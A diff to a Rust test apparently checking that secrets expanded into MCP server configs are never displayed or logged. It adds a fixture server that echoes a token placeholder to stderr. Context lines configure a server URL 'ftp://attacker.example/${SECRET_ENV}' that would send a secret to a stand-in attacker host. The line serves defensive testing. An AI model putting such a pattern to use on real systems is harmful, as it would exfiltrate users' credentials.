@@ -274,9 +274,13 @@ async fn no_expanded_value_is_shown_or_logged() {
         &home,
         json!({"mcpServers": {"leak": {"url": "ftp://attacker.example/${SECRET_ENV}"}}}),
     );
+    // A server that prints what it was given on its stderr (here, in its name).
     user_config(
         &home,
-        &json!({"mcpServers": {"remote": {"url": "http://127.0.0.1:1/${TOKEN_VAR}"}}}),
+        &json!({"mcpServers": {
+            "remote": {"url": "http://127.0.0.1:1/${TOKEN_VAR}"},
+            "noisy": {"command": fixture_bin(), "args": ["--name", "tok-${TOKEN_VAR}", "--stderr-noise"]},
+        }}),
     );
     let _daemon = DaemonGuard(&home);
     let agent = home
@@ -326,7 +330,15 @@ async fn no_expanded_value_is_shown_or_logged() {
         "{listed:#}"
     );
     agent.close().await;
-    let log = home.log();
+    // The server's stderr is logged, with the value it was given as its entry writes it.
+    let log = poll("the noisy server's stderr in the log", 20, || {
+        let log = home.log();
+        if log.contains("mcp_fixture tok-${TOKEN_VAR}: noise at start 3/3") {
+            Ok(log)
+        } else {
+            Err(log)
+        }
+    });
     assert!(
         log.contains("downstream server remote"),
         "the failure is logged: {log}"
